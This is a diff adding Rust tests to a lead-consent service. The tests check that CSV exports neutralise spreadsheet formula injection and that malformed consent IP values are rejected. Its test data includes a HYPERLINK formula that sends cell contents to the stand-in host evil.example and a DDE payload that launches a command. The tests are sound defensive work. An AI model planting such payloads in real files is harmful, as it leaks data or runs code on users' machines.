@@ -193,6 +193,88 @@ async fn consent_export_shows_grant_revocation_and_reinstatement_as_json_and_csv
     app.stop().await;
 }
 
+/// Values a spreadsheet would run as formulas (OWASP "CSV Injection") get a leading `'` in
+/// the CSV export; phone numbers and plain numbers do not; the JSON export stays verbatim.
+#[tokio::test]
+async fn consent_csv_escapes_formula_cells_and_the_json_export_stays_verbatim() {
+    use sha2::Digest;
+    let app = TestApp::spawn().await;
+    let phone = "+12125550191";
+    let hyperlink = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Consent\")";
+    let first = json!({
+        "source": "web", "source_lead_id": "F-1", "phone": phone,
+        "consent": {"granted_at": "2026-11-26T14:03:00Z", "source_url": "@SUM(1)", "disclosure": hyperlink,
+                    "ip": "203.0.113.9", "user_agent": "+cmd|' /C calc'!A0", "seller": "-2+3"}
+    });
+    assert_eq!(app.post_lead(&first).await.status(), 202);
+    let second = json!({
+        "source": "web", "source_lead_id": "F-2", "phone": phone,
+        "consent": {"granted_at": "2026-11-26T15:00:00Z", "source_url": "https://agent.example.com/l/2",
+                    "disclosure": "\tI agree", "ip": " 2001:db8::7 ", "user_agent": "Mozilla/5.0", "seller": "-12.5"}
+    });
+    assert_eq!(app.post_lead(&second).await.status(), 202);
+
+    let res = app.admin_get(&format!("/v1/admin/leads/{}/consent?format=csv", urlencode(phone))).await;
+    assert_eq!(res.status(), 200);
+    let (header, rows) = parse_csv(&res.text().await.unwrap());
+    assert_eq!(header, CONSENT_HEADER);
+    let col = |row: &[String], name: &str| row[CONSENT_HEADER.iter().position(|c| *c == name).unwrap()].clone();
+    let grants: Vec<&Vec<String>> = rows.iter().filter(|r| col(r, "event") == "granted").collect();
+    assert_eq!(grants.len(), 2, "{rows:?}");
+    let (g1, g2) = (grants[0], grants[1]);
+    assert_eq!(col(g1, "disclosure"), format!("'{hyperlink}"));
+    assert_eq!(col(g1, "source_url"), "'@SUM(1)");
+    assert_eq!(col(g1, "user_agent"), "'+cmd|' /C calc'!A0");
+    assert_eq!(col(g1, "seller"), "'-2+3");
+    assert_eq!(col(g2, "disclosure"), "'\tI agree");
+    // Phone numbers, plain numbers, addresses, times and hashes are untouched.
+    assert!(rows.iter().all(|r| col(r, "phone") == phone), "{rows:?}");
+    assert_eq!(col(g2, "seller"), "-12.5");
+    assert_eq!(col(g1, "ip"), "203.0.113.9");
+    assert_eq!(col(g2, "ip"), "2001:db8::7", "trimmed, otherwise as sent");
+    assert_eq!(col(g1, "granted_at"), "2026-11-26T14:03:00.000Z");
+    let sha = |text: &str| hex::encode(sha2::Sha256::digest(text.as_bytes()));
+    assert_eq!(col(g1, "disclosure_sha256"), sha(hyperlink), "the hash is over the original text");
+    assert_eq!(col(g2, "disclosure_sha256"), sha("\tI agree"));
+
+    // The JSON export is the verbatim evidence.
+    let res = app.admin_get(&format!("/v1/admin/leads/{}/consent", urlencode(phone))).await;
+    let v: Value = res.json().await.unwrap();
+    let history: Vec<&Value> = v["history"].as_array().unwrap().iter().filter(|h| h["event"] == "granted").collect();
+    assert_eq!(history[0]["disclosure"], hyperlink);
+    assert_eq!(history[0]["disclosure_sha256"], sha(hyperlink));
+    assert_eq!(history[0]["source_url"], "@SUM(1)");
+    assert_eq!(history[0]["user_agent"], "+cmd|' /C calc'!A0");
+    assert_eq!(history[0]["seller"], "-2+3");
+    assert_eq!(history[1]["disclosure"], "\tI agree");
+    app.stop().await;
+}
+
+#[tokio::test]
+async fn a_consent_ip_that_is_no_ip_address_is_refused() {
+    let app = TestApp::spawn().await;
+    for (i, bad) in ["=1+1", "203.0.113", "203.0.113.9:443", "localhost", "fe80::1%eth0"].iter().enumerate() {
+        let mut lead = lead_with_consent("+12125550192", &format!("IP-{i}"));
+        lead["consent"]["ip"] = json!(bad);
+        let res = app.post_lead(&lead).await;
+        let status = res.status().as_u16();
+        let body: Value = res.json().await.unwrap();
+        assert_eq!((status, body["error"]["code"].as_str().unwrap()), (422, "invalid_field"), "{bad}: {body}");
+        assert!(body["error"]["message"].as_str().unwrap().contains("consent.ip"), "{body}");
+    }
+    let res = app.admin_get("/v1/admin/leads/%2B12125550192").await;
+    assert_eq!(res.status(), 404, "nothing was stored");
+    // IPv6 is an IP address too; an empty ip is none.
+    let mut lead = lead_with_consent("+12125550192", "IP-ok");
+    lead["consent"]["ip"] = json!("2001:db8::1");
+    assert_eq!(app.post_lead(&lead).await.status(), 202);
+    let mut lead = lead_with_consent("+12125550193", "IP-empty");
+    lead["consent"]["ip"] = json!("");
+    assert_eq!(app.post_lead(&lead).await.status(), 202);
+    assert_eq!(app.lead("+12125550193").await["consent"]["ip"], Value::Null);
+    app.stop().await;
+}
+
 // ---------------------------------------------------------------------------------------
 // Suppression list
 // ---------------------------------------------------------------------------------------
@@ -458,6 +540,34 @@ fn cli_imports_and_exports_the_suppression_list() {
     let out = leadline(&dir.path().join("nowhere"), &["suppress", "export"]);
     assert_eq!(out.status.code(), Some(1));
     assert!(text(&out.stderr).contains("no database"), "{}", text(&out.stderr));
+}
+
+/// `suppress export` writes a reason a spreadsheet would run as a formula with a leading
+/// `'`; `suppress import` of that file reads the reason back without it.
+#[test]
+fn cli_suppression_export_escapes_formula_reasons() {
+    let dir = tempfile::tempdir().unwrap();
+    let data = dir.path().join("data");
+    let file = dir.path().join("list.csv");
+    std::fs::write(&file, "phone,reason\n2125550175,=1+1\n2125550176,-12.5\n2125550177,@SUM(A1)\n").unwrap();
+    let out = leadline(&data, &["suppress", "import", file.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+
+    let out = leadline(&data, &["suppress", "export"]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let (_, rows) = parse_csv(&text(&out.stdout));
+    let got: Vec<(&str, &str)> = rows.iter().map(|r| (r[0].as_str(), r[2].as_str())).collect();
+    assert_eq!(got, [("+12125550175", "'=1+1"), ("+12125550176", "-12.5"), ("+12125550177", "'@SUM(A1)")]);
+
+    // Round trip: the re-imported reasons are the originals, escaped once again on export.
+    let exported = dir.path().join("export.csv");
+    std::fs::write(&exported, &out.stdout).unwrap();
+    let other = dir.path().join("other-data");
+    let out = leadline(&other, &["suppress", "import", exported.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", text(&out.stderr));
+    let out = leadline(&other, &["suppress", "export"]);
+    let (_, again) = parse_csv(&text(&out.stdout));
+    assert_eq!(again.iter().map(|r| r[2].as_str()).collect::<Vec<_>>(), ["'=1+1", "-12.5", "'@SUM(A1)"]);
 }
 
 #[tokio::test]
